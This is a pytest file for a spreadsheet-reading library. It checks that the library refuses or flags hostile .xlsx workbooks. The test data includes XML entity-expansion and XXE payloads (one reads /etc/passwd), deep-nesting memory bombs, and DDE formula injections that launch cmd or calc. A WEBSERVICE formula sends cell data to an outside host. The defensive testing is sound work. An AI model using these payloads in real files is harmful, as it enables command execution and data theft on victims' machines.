import random
import resource
import time

import pytest

from tests.workbook import samples
from xl_theodoi.domain.cells import CellKind
from xl_theodoi.domain.errors import TheodoiError
from xl_theodoi.workbook.reading.hostile import (
    is_unsafe_formula,
    refuse_unsafe,
    unsafe_formulas,
    unsafe_parts,
)
from xl_theodoi.workbook.reading.package import RETURN_LIMITS, open_package
from xl_theodoi.workbook.reading.read import read_workbook


def read(data):
    """Read every sheet and cut every table, as intake does."""
    content = read_workbook(data, file_name="so.xlsx", limits=RETURN_LIMITS)
    content.find_list(["Mã", "Nội dung"], str.casefold, 2)
    return content


def refusal(data):
    with pytest.raises(TheodoiError) as caught:
        read(data)
    assert caught.value.values["file"] == "so.xlsx"
    return caught.value.code, caught.value.values.get("limit")


def unsafe(**changes):
    return unsafe_parts(open_package(samples.book("", **changes), RETURN_LIMITS))


LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha">'
    + "".join(
        f'<!ENTITY {chr(98 + i)} "{f"&{chr(97 + i)};" * 10}">'  # each ten times the one before
        for i in range(9)
    )
    + "]>"
)
EXTERNAL = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'


# XML that attacks its reader.


@pytest.mark.parametrize("prologue", [LAUGHS, EXTERNAL, "<!DOCTYPE x>"])
@pytest.mark.parametrize(
    "part", ["xl/workbook.xml", "xl/worksheets/sheet1.xml", "_rels/.rels", "[Content_Types].xml"]
)
def test_a_document_type_ends_the_reading_in_every_part(prologue, part):
    parts = samples.parts()
    parts[part] = prologue + parts[part]

    assert refusal(samples.pack(parts))[0] == "not_a_workbook"


@pytest.mark.parametrize("part", ["strings", "styles"])
def test_an_entity_in_strings_or_styles_is_not_expanded(part):
    changes = {part: LAUGHS + f'<sst xmlns="{samples.MAIN}"><si><t>&j;</t></si></sst>'}

    assert (
        refusal(samples.book('<row><c t="s"><v>0</v></c></row>', **changes))[0] == "not_a_workbook"
    )


@pytest.mark.parametrize(
    "sheet",
    [
        "",
        "<worksheet",
        "<html><body/></html>",
        "\0\0\0\0",
        samples.worksheet('<row r="1"><c r="A1"><v>1</v></row>'),
        samples.worksheet('<row r="1"><c r="A1"><v>a\0b</v></c></row>'),
        samples.worksheet('<row r="1"><c r="A1"><v>&undefined;</v></c></row>'),
        samples.worksheet('<row r="0"><c><v>1</v></c></row>'),
        samples.worksheet('<row r="1048577"><c><v>1</v></c></row>'),
        samples.worksheet('<row r="99999999999999999999"><c><v>1</v></c></row>'),
        samples.worksheet('<row r="x"><c><v>1</v></c></row>'),
        samples.worksheet('<row r="1"><c r="XFE1"><v>1</v></c></row>'),
        samples.worksheet('<row r="1"><c r="ZZZZZZ1"><v>1</v></c></row>'),
        samples.worksheet('<row r="1"><c r="B12"><v>1</v></c></row>'),
        samples.worksheet('<row r="1"><c r=""><v>1</v></c></row>'),
        samples.worksheet('<row r="1"><c r="A1" t="s"><v>0</v></c></row>'),
        samples.worksheet('<row r="1"><c r="A1" t="s"><v>-1</v></c></row>'),
        samples.worksheet('<row r="1"><c r="A1" t="s"><v>x</v></c></row>'),
        samples.worksheet('<row r="1"><c r="A1" t="s"><f>B1</f><v>-1</v></c></row>'),
    ],
)
def test_a_sheet_that_no_program_writes_is_not_a_workbook(sheet):
    data = samples.pack(samples.parts() | {"xl/worksheets/sheet1.xml": sheet})

    assert refusal(data)[0] == "not_a_workbook"


@pytest.mark.parametrize("element", ["c", "row", "x", "v", "is"])
def test_endless_nesting_is_refused_before_it_fills_the_memory(element):
    nested = f"<{element}>" * 20_000_000
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss

    assert refusal(samples.pack(samples.parts(samples.worksheet(nested)), 1))[0] == "not_a_workbook"
    grown = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
    assert grown < 600_000  # kilobytes; unguarded it is several gigabytes


def test_endless_nesting_in_strings_is_refused():
    strings = f'<sst xmlns="{samples.MAIN}">' + "<r>" * 3_000_000

    assert refusal(samples.book('<row><c t="s"><v>0</v></c></row>', strings=strings))[0] == (
        "not_a_workbook"
    )


def test_endless_nesting_in_the_workbook_part_is_refused():
    assert refusal(samples.book("", workbook="<a>" * 100_000))[0] == "not_a_workbook"


def test_a_giant_comment_takes_time_in_proportion_to_its_size():
    comment = "<!--" + "<x " * 8_000_000 + "-->"
    rows = '<row r="1"><c r="A1"><v>1</v></c></row>'
    data = samples.pack(samples.parts(samples.worksheet(comment + rows)), 1)

    begun = time.perf_counter()
    content = read(data)

    assert content.grid("S").value(1, 1) == 1
    assert time.perf_counter() - begun < 5


# Sizes.


def test_six_million_cells_in_half_a_megabyte_are_too_large():
    data = samples.pack(samples.parts(samples.worksheet(samples.filled(240_000, 25))), 9)
    assert len(data) < 1_000_000

    assert refusal(data)[0] == "too_large"


def test_more_rows_than_a_unit_has_are_too_large():
    assert refusal(samples.book(samples.filled(200_001, 1))) == ("too_large", "rows")


def test_a_string_table_without_end_is_too_large():
    strings = f'<sst xmlns="{samples.MAIN}">' + "<si/>" * 2_100_000 + "</sst>"
    rows = '<row r="1"><c r="A1" t="s"><v>0</v></c></row>'

    assert refusal(samples.book(rows, strings=strings)) == ("too_large", "strings")


@pytest.mark.parametrize("entry", ["<xf/>", "<xf><protection locked='0'/></xf>"])
def test_cell_formats_without_end_are_too_large(entry):
    styles = f'<styleSheet xmlns="{samples.MAIN}"><cellXfs>{entry * 80_000}</cellXfs></styleSheet>'

    assert refusal(samples.book("", styles=styles)) == ("too_large", "items")


def test_names_and_relationships_without_end_are_too_large():
    parts = samples.parts()
    names = "<definedName name='a'>S!A1</definedName>" * 80_000
    many = parts["xl/workbook.xml"].replace(
        "</sheets>", f"</sheets><definedNames>{names}</definedNames>"
    )
    rels = samples.relationships(*(f"r{i}|table|t.xml" for i in range(80_000)))

    assert refusal(samples.book("", workbook=many)) == ("too_large", "items")
    assert refusal(samples.book("", sheet_rels=rels)) == ("too_large", "items")


def test_a_lone_cell_in_the_last_corner_costs_nothing():
    rows = '<row r="1048576"><c r="XFD1048576" t="str"><v>góc</v></c></row>'
    content = read(samples.book(rows))
    grid = content.grid("S")

    assert grid.value(1_048_576, 16_384) == "góc"
    assert [len(column.values) for column in grid.columns.values()] == [1]
    assert grid.cell(1_048_576, 16_384).location.cell == "XFD1048576"


def test_a_table_over_the_whole_sheet_does_not_fill_the_memory():
    """Every column has a heading, and a cell every 900 rows keeps the gaps from being cut."""
    columns = "".join(f'<tableColumn id="{i}" name="c{i}"/>' for i in range(1, 16_385))
    table = (
        f'<table xmlns="{samples.MAIN}" id="1" name="T" displayName="T" ref="A1:XFD1048576">'
        f'<tableColumns count="16384">{columns}</tableColumns></table>'
    )
    header = "".join(f"<c t='str'><v>c{i}</v></c>" for i in range(1, 16_385))
    rows = f'<row r="1">{header}</row>' + "".join(
        f'<row r="{row}"><c r="A{row}"><v>1</v></c></row>' for row in range(900, 1_000_000, 900)
    )
    rels = samples.relationships("rId1|table|../tables/table1.xml")
    data = samples.book(rows, sheet_rels=rels, **{"xl/tables/table1.xml": table})

    assert refusal(data) == ("too_large", "cells")


def test_a_lone_cell_beside_a_wide_list_does_not_count_as_its_rows():
    """An honest slip of the keyboard: a word in the last row, outside the list."""
    header = "".join(f"<c t='str'><v>Cột {i}</v></c>" for i in range(1, 31))
    rows = (
        f'<row r="1">{header}</row><row r="2"><c r="A2"><v>1</v></c></row>'
        '<row r="1048576"><c r="AZ1048576" t="str"><v>x</v></c></row>'
    )
    content = read(samples.book(rows))

    (found,) = content.find_list(["Cột 1", "Cột 2"], str.casefold, 2)

    assert found.row_numbers == [2]


def test_one_part_that_is_sheet_and_table_of_everything_is_read_once():
    sheets = "".join(f'<sheet name="S{i}" sheetId="{i}" r:id="rId1"/>' for i in range(1, 3_000))
    parts = samples.parts(samples.worksheet(samples.filled(300, 25)))
    parts["xl/workbook.xml"] = (
        f'<workbook xmlns="{samples.MAIN}" xmlns:r="{samples.RELATIONSHIPS}">'
        f"<sheets>{sheets}</sheets></workbook>"
    )
    table = f'<table xmlns="{samples.MAIN}" name="T" displayName="T" ref="A1:Y300"/>'
    parts["xl/tables/table1.xml"] = table
    parts["xl/worksheets/_rels/sheet1.xml.rels"] = samples.relationships(
        *(f"r{i}|table|../tables/table1.xml" for i in range(2_000))
    )

    begun = time.perf_counter()
    content = read(samples.pack(parts))

    assert len(content.table_infos) == 1
    assert time.perf_counter() - begun < 10


def test_relationships_that_lead_back_to_themselves_are_followed_once():
    rels = samples.relationships("r1|worksheet|sheet1.xml", "r2|table|sheet1.xml", "r3|table|/")

    content = read(samples.book('<row r="1"><c r="A1"><v>1</v></c></row>', sheet_rels=rels))

    assert content.grid("S").value(1, 1) == 1


# Honest but odd: must pass.


def test_a_highly_compressible_honest_workbook_is_read():
    row = '<row r="{0}">' + "".join(f'<c r="{c}{{0}}" s="1"/>' for c in "ABCDEFGHIJ") + "</row>"
    rows = "".join(
        f'<row r="{i}"><c r="A{i}"><v>1</v></c></row>' if i < 300 else row.format(i)
        for i in range(1, 4_000)
    )
    rows += '<row r="5000"><c r="A5000" t="str"><v>' + "a" * 400_000 + "</v></c></row>"
    data = samples.pack(samples.parts(samples.worksheet(rows)), 9)

    assert read(data).grid("S").value(299, 1) == 1


def test_300_000_formatted_blank_rows_are_read_and_cost_no_memory():
    blank = "".join(
        f'<row r="{i}" spans="1:12" s="1" customFormat="1">'
        + "".join(f'<c r="{letter}{i}" s="1"/>' for letter in "ABCD")
        + "</row>"
        for i in range(2, 300_002)
    )
    rows = '<row r="1"><c r="A1" t="str"><v>Mã</v></c><c r="B1" t="str"><v>Nội dung</v></c></row>'
    data = samples.book(rows + blank)
    assert len(data) > 1_400_000

    content = read(data)

    assert content.grid("S").last_row == 1
    assert len(content.find_list(["Mã", "Nội dung"], str.casefold, 2)[0]) == 0


def test_a_million_hidden_rows_below_the_list_are_forgotten():
    rows = '<row r="1"><c r="A1"><v>1</v></c></row>'
    rows += "".join(f'<row r="{i}" hidden="1"/>' for i in range(2, 1_000_001))

    assert read(samples.book(rows)).grid("S").hidden_rows == frozenset()


# Broken at random.


@pytest.mark.parametrize("seed", range(150))
def test_random_damage_is_read_or_refused_but_never_crashes(seed):
    """Bytes of the package and of its XML are changed; every error has a contract's code."""
    chooser = random.Random(seed)
    parts = samples.parts(
        samples.worksheet(
            '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="inlineStr"><is><t>b</t></is></c>'
            '<c r="C1" s="1"><f>A1</f><v>46331</v></c><c r="D1" t="d"><v>2026-11-05</v></c></row>',
            before='<cols><col min="1" max="2" hidden="1"/></cols>',
            after='<mergeCells><mergeCell ref="A1:B2"/></mergeCells>',
        ),
        strings=f'<sst xmlns="{samples.MAIN}"><si><t>Mã</t></si></sst>',
        styles=(
            f'<styleSheet xmlns="{samples.MAIN}"><cellXfs><xf numFmtId="0"/>'
            '<xf numFmtId="14"/></cellXfs></styleSheet>'
        ),
        sheet_rels=samples.relationships("rId1|table|../tables/table1.xml"),
    )
    parts["xl/tables/table1.xml"] = (
        f'<table xmlns="{samples.MAIN}" name="T" displayName="T" ref="A1:D1">'
        '<tableColumns><tableColumn name="Mã"/></tableColumns></table>'
    )
    assert read(samples.pack(parts)).tables["T"].name == "T"
    name = chooser.choice(list(parts))
    damaged = bytearray(parts[name].encode())
    for _ in range(chooser.randint(1, 4)):
        damaged[chooser.randrange(len(damaged))] = chooser.choice(b"<>/\"'&=01A9 -\0\xff")
    whole = bytearray(samples.pack(parts | {name: bytes(damaged)}))
    if seed % 3 == 0:
        for _ in range(chooser.randint(1, 6)):
            whole[chooser.randrange(len(whole))] = chooser.randrange(256)

    code = None
    try:
        unsafe_parts(read(bytes(whole)).package)
    except TheodoiError as error:
        code = error.code
    assert code in {None, "not_a_workbook", "too_large", "unsafe_content", "encrypted"}


# Content that could act.


@pytest.mark.parametrize(
    "part",
    [
        "xl/vbaProject.bin",
        "xl/macrosheets/sheet1.xml",
        "xl/externalLinks/externalLink1.xml",
        "xl/embeddings/oleObject1.bin",
        "xl/embeddings/Microsoft_Word_Document.docx",
        "xl/activeX/activeX1.xml",
        "xl/connections.xml",
        "xl/queryTables/queryTable1.xml",
        "customUI/customUI14.xml",
        "xl/dialogsheets/sheet1.xml",
    ],
)
def test_a_part_that_could_act_is_named(part):
    assert unsafe(**{part: "x"}) == [part]


@pytest.mark.parametrize(
    "kind",
    [
        "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
        "externalLink",
        "oleObject",
        "connections",
        "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility",
    ],
)
def test_a_part_that_hides_under_another_name_is_found_by_its_relationship(kind):
    rels = samples.relationships(
        "rId1|worksheet|worksheets/sheet1.xml", f"rId7|{kind}|media/image1.png"
    )

    assert unsafe(workbook_rels=rels) == ["xl/media/image1.png"]


def test_a_part_that_hides_under_another_name_is_found_by_its_content_type():
    parts = samples.parts() | {"xl/data.bin": "x"}
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        "</Types>",
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
    )

    assert unsafe_parts(open_package(samples.pack(parts), RETURN_LIMITS)) == ["xl/data.bin"]


def test_every_way_out_of_the_package_but_a_hyperlink_is_unsafe():
    link = samples.relationships("r1|hyperlink|https://cantho.gov.vn|External")
    image = samples.relationships("r1|image|https://xa.vn/theo-doi.png|External")

    assert unsafe(sheet_rels=link) == []
    assert unsafe(sheet_rels=image) == ["xl/worksheets/sheet1.xml → image"]


@pytest.mark.parametrize("make", [samples.by_openpyxl, samples.by_xlsxwriter])
def test_an_honest_workbook_has_nothing_that_could_act(make):
    content = read(make())

    assert unsafe_parts(content.package) == []
    assert unsafe_formulas(content) == []
    refuse_unsafe(content)


def test_a_macro_workbook_is_read_but_refused_as_a_return():
    parts = samples.parts(samples.worksheet('<row r="1"><c r="A1"><v>1</v></c></row>'))
    parts["xl/vbaProject.bin"] = b"\xd0\xcf\x11\xe0"
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    )
    content = read(samples.pack(parts))
    assert content.grid("S").value(1, 1) == 1

    with pytest.raises(TheodoiError) as caught:
        refuse_unsafe(content)

    assert caught.value.code == "unsafe_content"
    assert caught.value.values["parts"] == ["xl/workbook.xml", "xl/vbaProject.bin"]


@pytest.mark.parametrize(
    ("formula", "expected"),
    [
        ("cmd|'/c calc'!A0", True),
        ("MSEXCEL|'\\..\\..\\windows\\system32\\cmd.exe'!''", True),
        ('SUM(A1)+DDE("cmd","/c","x")', True),
        ('WEBSERVICE("http://xa.vn/?"&A1)', True),
        ("_xlfn.WEBSERVICE(A1)", True),
        ('RTD("x",,A1)', True),
        ('CALL("kernel32","WinExec","JFJ","calc",0)', True),
        ("A1&\"cmd|'/c'!A0\"", False),
        ("'Việc|riêng'!A1", False),
        ("SUM(NhiemVu[Hạn|Gia hạn])", False),
        ("RECALL(A1)", False),
        ('IF(A1="","",NETWORKDAYS(A1,B1))', False),
    ],
)
def test_a_formula_that_reaches_outside_is_told_from_one_that_does_not(formula, expected):
    assert is_unsafe_formula(formula) is expected


def test_a_formula_hidden_by_character_references_is_found_at_its_cell():
    rows = '<row r="3"><c r="B3"><f>cmd&#124;&apos;/c calc&apos;!A0</f><v>1</v></c></row>'
    content = read(samples.book(rows))

    assert [(place.sheet, place.cell) for place in unsafe_formulas(content)] == [("S", "B3")]
    with pytest.raises(TheodoiError) as caught:
        refuse_unsafe(content)
    assert caught.value.values["part"] == "S!B3"


def test_a_name_that_starts_a_program_is_found():
    parts = samples.parts()
    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(
        "</sheets>",
        "</sheets><definedNames><definedName name='x'>cmd|'/c calc'!A0</definedName></definedNames>",
    )

    assert [place.cell for place in unsafe_formulas(read(samples.pack(parts)))] == ["x"]


def test_text_that_only_looks_like_a_formula_is_text():
    rows = '<row r="1"><c r="A1" t="str"><v>=cmd|\'/c calc\'!A0</v></c></row>'
    content = read(samples.book(rows))

    assert content.grid("S").cell(1, 1).kind is CellKind.TEXT
    assert unsafe_formulas(content) == []
